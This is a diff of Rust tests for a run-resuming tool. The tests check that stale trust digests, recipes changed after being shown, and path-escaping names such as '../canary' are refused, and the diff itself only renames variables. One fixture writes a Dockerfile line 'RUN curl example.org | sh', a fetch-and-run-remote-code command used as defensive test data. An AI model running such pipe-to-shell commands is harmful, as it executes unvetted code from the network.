@@ -109,8 +109,8 @@ fn the_folders_endpoint_and_key_are_not_used_unless_they_are_chosen() {
     let on_its_page = app.get("run_trust", &run_ref);
     assert_eq!((&on_its_page["trusted"], &on_its_page["here"]), (&json!(false), &Value::Null));
     assert_eq!(on_its_page["rows"], seen["rows"], "the same words");
-    let asked = json!({ "folder": home.path("results"), "changes": [] });
-    assert_eq!(app.ask("resume_run", &asked).expect_err("refused")["code"], "run.stranger");
+    let request = json!({ "folder": home.path("results"), "changes": [] });
+    assert_eq!(app.ask("resume_run", &request).expect_err("refused")["code"], "run.stranger");
     let stale = json!({ "folder": home.path("results"), "changes": [], "trust": { "digest": "0", "keep_key": true } });
     assert_eq!(app.ask("resume_run", &stale).expect_err("refused")["code"], "run.changed");
     // The form takes neither.
@@ -196,8 +196,8 @@ fn a_recipe_that_changes_once_it_was_shown_is_not_what_was_trusted() {
     task("environment/Dockerfile", "FROM debian\nRUN curl example.org | sh\n");
     assert_ne!(shown()["digest"], first["digest"]);
     let trust = json!({ "digest": first["digest"], "keep_key": true });
-    let asked = json!({ "folder": home.path("results"), "changes": [], "trust": trust });
-    assert_eq!(app.ask("resume_run", &asked).expect_err("refused")["code"], "run.changed");
+    let request = json!({ "folder": home.path("results"), "changes": [], "trust": trust });
+    assert_eq!(app.ask("resume_run", &request).expect_err("refused")["code"], "run.changed");
 }
 
 #[test]
@@ -234,11 +234,11 @@ fn names_and_settings_that_would_reach_out_are_refused() {
     let canary = home.path("canary");
     std::fs::create_dir(&canary).expect("a folder");
     std::fs::write(canary.join("kept"), "kept").expect("a file");
-    let refused = |run: &Value, why: &str| {
+    let refused = |run: &Value, reason: &str| {
         put(&home, run);
         let output = home.stamina(&["resume", "results", "--trust"]);
         assert!(!output.status.success());
-        assert!(text(&output.stderr).contains(why), "{why}: {}", text(&output.stderr));
+        assert!(text(&output.stderr).contains(reason), "{reason}: {}", text(&output.stderr));
     };
     for name in [canary.display().to_string(), "../canary".to_owned(), "scenario_1".to_owned()] {
         let mut run = good.clone();
@@ -381,8 +381,8 @@ fn pipes_and_devices_hold_nobody_up() {
     let app = Served::new(&home);
     let listed = app.get("list_live_runs", &json!({}));
     assert_eq!((&listed["live"], &listed["runs"][0]["state"]), (&json!(0), &json!("unreadable")), "{listed}");
-    let why = listed["runs"][0]["message"].as_str().expect("why");
-    assert!(why.starts_with(".stamina/run.json: ") && why.contains("link"), "{listed}");
+    let message = listed["runs"][0]["message"].as_str().expect("a message");
+    assert!(message.starts_with(".stamina/run.json: ") && message.contains("link"), "{listed}");
 }
 
 #[test]
